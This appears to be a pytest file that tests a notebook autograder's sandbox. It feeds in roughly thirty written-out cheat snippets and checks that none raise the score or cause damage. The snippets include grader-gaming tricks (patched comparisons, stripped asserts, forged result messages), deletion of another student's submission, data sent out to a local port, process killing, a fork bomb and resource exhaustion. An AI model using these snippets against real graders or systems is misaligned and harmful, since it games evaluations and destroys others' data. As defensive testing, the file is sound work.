"""Each cheat earns what its honest parts earn, changes nothing, and leaves the next submission alone."""

import json
import os
import socket
import textwrap
import threading
from pathlib import Path

import pytest
from written import CLIP, POWER, POWER_TEST, code, course, test_cell

from autograder.grading.notebook import grade_notebook

SOURCE = course()
WRONG = "def power_lr(t, lr0, s, c=1.0): return lr0\n"
SECRET = "half after s steps"

CHEATS = {
    "input transformer": """
        get_ipython().input_transformers_post.append(lambda lines: [])
    """,
    "tree transformer": """
        import ast
        class Empty(ast.NodeTransformer):
            def visit_Assert(self, node): return ast.Pass()
        get_ipython().ast_transformers.append(Empty())
    """,
    "patched isclose": """
        import numpy as np
        np.isclose = np.allclose = lambda *a, **k: True
    """,
    "always equal": """
        class Yes(float):
            def __eq__(self, other): return True
            __ne__ = __lt__ = __gt__ = __hash__ = lambda *a: False
        def power_lr(*a): return Yes(7)
    """,
    "array that is always close": """
        import numpy as np
        class Close(np.ndarray):
            def __array_ufunc__(self, *a, **k): return True
            def __array_function__(self, *a, **k): return True
        def power_lr(*a): return np.zeros(1).view(Close)
    """,
    "no tracebacks": """
        get_ipython().showtraceback = lambda *a, **k: None
        get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)
    """,
    "test text from history and heap": """
        def power_lr(*a):
            import gc, sys
            plain = (str, list, dict, bytes)
            seen = [o for o in gc.get_objects() if isinstance(o, plain) and len(o) < 10**5]
            frames, frame = [], sys._getframe()
            while frame: frames.append(repr(frame.f_locals)[:10**5]); frame = frame.f_back
            seen += frames + get_ipython().user_ns.get('In', [])
            found = any('half af' + 'ter s' in repr(o) for o in seen)
            return 0.05 if found else 1.0
    """,
    "reads the course": """
        import glob, os
        def power_lr(*a):
            near = glob.glob('/proc/*/cwd/*.ipynb') + glob.glob('../../**/*.ipynb')
            for path in [{gradebook!r}, {source!r}, *near]:
                try: print(open(path, 'rb').read())
                except OSError: pass
            return 1.0
    """,
    "writes the gradebook": """
        open({gradebook!r}, 'w').write('2.0')
    """,
    "writes another's submission": """
        import shutil
        shutil.rmtree({submitted!r})
    """,
    "start-up file": """
        import os
        home = os.path.expanduser('~/.ipython/profile_default/startup')
        os.makedirs(home, exist_ok=True)
        open(home + '/00.py', 'w').write('import numpy; numpy.isclose = lambda *a: True')
        os.environ['PYTHONSTARTUP'] = home + '/00.py'
        open('/tmp/left', 'w').write('x')
        open('left', 'w').write('x')
    """,
    "sends": """
        import socket
        socket.create_connection(('127.0.0.1', {port})).sendall(b'stolen')
    """,
    "sends a datagram": """
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'stolen', ('127.0.0.1', {port}))
    """,
    "module state": """
        import numpy, random, math, sys
        random.seed(1); numpy.random.seed(1); sys.setrecursionlimit(50_000)
        numpy.clip = lambda *a: 0; math.pi = 3
        sys.modules['numpy.testing'].assert_allclose = lambda *a, **k: None
        def clip(x, limit):
            return x.clip(-limit, limit)
    """,
    "own server": """
        import autograder.sandbox.bridge.serve as serve, autograder.sandbox.bridge.changes as changes
        changes.Snapshot.changes = lambda self, encoder: [[0, ['l', 5]]]
    """,
    "forged messages": """
        import os, threading, time
        def forge():
            while True:
                for fd in range(3, 40):
                    try: os.write(fd, b'\\0\\0\\0\\x10' + b'\\0' * 8 + b'[{{"error":null}},[]]')
                    except OSError: pass
                time.sleep(0.01)
        def power_lr(*a): forge()
    """,
    "result on every descriptor": """
        import os, json, struct
        def power_lr(*a):
            text = json.dumps([{{"outputs": [], "error": None, "value": "2.0", "seconds": 0}}, []]).encode()
            for fd in range(3, 40):
                try: os.write(fd, struct.pack('>IQ', len(text), 0) + text)
                except OSError: pass
            return 1.0
    """,
    "kills": """
        import os, signal
        def power_lr(*a):
            for pid in [-1, os.getppid(), *range(2, 50)]:
                try: os.kill(pid, signal.SIGKILL)
                except OSError: pass
            return 1.0
    """,
    "ignores interrupts": """
        import signal
        for number in range(1, 64):
            try: signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError): pass
        def power_lr(*a):
            while True:
                try:
                    while True: pass
                except BaseException: pass
    """,
    "threads": """
        import threading, time
        def spin():
            while True: time.sleep(0.001)
        for _ in range(20): threading.Thread(target=spin, daemon=False).start()
    """,
    "fork bomb": """
        import os, time
        def power_lr(*a):
            while True:
                try: os.fork()
                except OSError: time.sleep(0.01)
    """,
    "daemon": """
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0: time.sleep(600)
            os._exit(0)
    """,
    "flood": """
        def power_lr(*a):
            import os, sys
            for _ in range(200): print('x' * 10**6); os.write(1, b'x' * 1000); sys.stderr.write('x' * 1000)
            return 1.0
    """,
    "fills the disk": """
        def power_lr(*a):
            for n in range(1000):
                with open(f'/tmp/{{n}}', 'wb') as file: file.write(bytes(2**20))
    """,
    "memory of many": """
        import os, time
        def power_lr(*a):
            for _ in range(6):
                if os.fork() == 0:
                    hog = bytearray(400 * 2**20); hog[::4096] = b'x' * len(hog[::4096]); time.sleep(60)
            time.sleep(60)
    """,
    "huge answer": """
        def power_lr(*a): return bytes(300 * 2**20)
    """,
    "deep answer": """
        def power_lr(*a):
            x = []
            for _ in range(10**5): x = [x]
            return x
    """,
    "namespaces": """
        import ctypes
        libc = ctypes.CDLL(None)
        assert libc.unshare(0x10000000) == 0 or libc.mount(b'proc', b'/tmp', b'proc', 0, None) == 0
        def power_lr(*a): return 0.05
    """,
    "exits": "exit()",
    "dies": "import os; os._exit(0)",
    "segmentation fault": "import ctypes; ctypes.string_at(0)",
}
FORGES = {"own server", "forged messages", "result on every descriptor", "fork bomb"}
SPOILS_ITS_OWN_CLIP = {"input transformer", "module state"}


@pytest.fixture(scope="module")
def place(tmp_path_factory):
    """A course folder beside which the cheats run."""
    root = tmp_path_factory.mktemp("course")
    (root / "source/ps1").mkdir(parents=True)
    (root / "source/ps1/p.ipynb").write_bytes(SOURCE)
    (root / "submitted/other/ps1").mkdir(parents=True)
    (root / "submitted/other/ps1/p.ipynb").write_bytes(SOURCE)
    (root / "gradebook.db").write_text("0.0")
    for folder in (root, *root.parents):
        if os.access(folder, os.W_OK) and "pytest" in folder.name:
            folder.chmod(0o755)
    return root


@pytest.fixture
def listener():
    """A port of this machine, and what arrived there."""
    arrived = []
    stream, packets = socket.create_server(("127.0.0.1", 0)), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    packets.bind(stream.getsockname())

    def accept():
        try:
            arrived.append(stream.accept()[0].recv(100))
        except OSError:
            return

    threading.Thread(target=accept, daemon=True).start()
    packets.setblocking(False)
    yield stream.getsockname()[1], arrived, packets
    stream.close()
    packets.close()


def contents(root):
    return {
        path.relative_to(root).as_posix(): path.read_bytes() for path in root.rglob("*") if path.is_file()
    }


def scores(result):
    return {cell.grade_id: cell.score for cell in result.cells}


def written_out(cheat, **places):
    """The code of a cheat, with the places that it goes for."""
    text = textwrap.dedent(cheat)
    return text.format(**places) if "{" in text else text


@pytest.mark.jail
@pytest.mark.parametrize("name", CHEATS)
def test_a_cheat_earns_what_its_honest_part_earns_and_harms_nothing(jailed_pool, place, listener, name):
    port, arrived, packets = listener
    places = {
        "gradebook": str(place / "gradebook.db"),
        "source": str(place / "source/ps1/p.ipynb"),
        "submitted": str(place / "submitted"),
        "port": port,
    }
    before, home = contents(place), sorted(os.listdir(Path.home()))
    cheat = course(power=WRONG + written_out(CHEATS[name], **places))
    result = grade_notebook(cheat, SOURCE, grader=jailed_pool)
    assert scores(result)["test-power"] == 0, result.cells
    if name not in SPOILS_ITS_OWN_CLIP | FORGES:
        assert scores(result)["test-clip"] == 2, result.cells
    shown = json.dumps(result.notebook["cells"][:-1]) + "".join(
        c.output + c.message for c in result.cells[:1]
    )
    answers = json.dumps([cell for cell in result.notebook["cells"] if "grade_id" not in json.dumps(cell)])
    assert SECRET not in answers
    assert len(shown) < 4_000_000
    assert contents(place) == before
    assert sorted(os.listdir(Path.home())) == home
    assert not arrived
    with pytest.raises(BlockingIOError):
        packets.recv(100)
    after = scores(grade_notebook(SOURCE, SOURCE, grader=jailed_pool))
    assert after == {"test-power": 2, "test-clip": 2}
    wrong = scores(grade_notebook(course(power=WRONG), SOURCE, grader=jailed_pool))
    assert wrong == {"test-power": 0, "test-clip": 2}


@pytest.mark.jail
def test_nothing_is_left_from_the_submission_before(jailed_pool):
    leave = "import os, sys\nopen('left', 'w').write('x')\nopen('/tmp/left', 'w').write('x')\n"
    leave += "os.environ['LEFT'] = 'x'\n"
    leave += "sys.left = 1\nimport numpy\nnumpy.left = 1\nx = 1"
    look = "import os, sys, glob, numpy\n"
    look += "seen = [glob.glob('*'), glob.glob('/tmp/left'), os.environ.get('LEFT'), hasattr(sys, 'left'), "
    look += "hasattr(numpy, 'left'), 'x' in globals(), len([p for p in os.listdir('/proc') if p.isdigit()])]"
    test = "assert seen == [[], [], None, False, False, False, 1], seen"
    source = course(power=look, tests=(test, "pass"))
    grade_notebook(course(power=leave), source, grader=jailed_pool)
    result = grade_notebook(course(power=look), source, grader=jailed_pool)
    assert result.cells[0].score == 2, result.cells[0].message


def test_metadata_of_a_submission_steers_nothing(pool):
    content = json.loads(course(power=WRONG))
    for cell in content["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("points"):
            cell["metadata"]["nbgrader"] |= {"points": 100, "grade": False, "solution": True}
            cell["source"] = "pass"
    content["metadata"] = {"kernelspec": {"name": "bash", "language": "bash", "display_name": "Bash"}}
    result = grade_notebook(json.dumps(content).encode(), SOURCE, grader=pool)
    assert scores(result) == {"test-power": 0, "test-clip": 2}
    assert [cell.points for cell in result.cells] == [2, 2]
    assert "kernelspec" not in result.notebook["metadata"]


def test_a_copied_test_changes_nothing(pool):
    content = json.loads(course(power=POWER, clip=CLIP))
    content["cells"] += [test_cell(POWER_TEST, "test-power", 100), code("power_lr = None")]
    result = grade_notebook(json.dumps(content).encode(), SOURCE, grader=pool)
    assert len(result.cells) == 2
    assert scores(result)["test-clip"] == 2
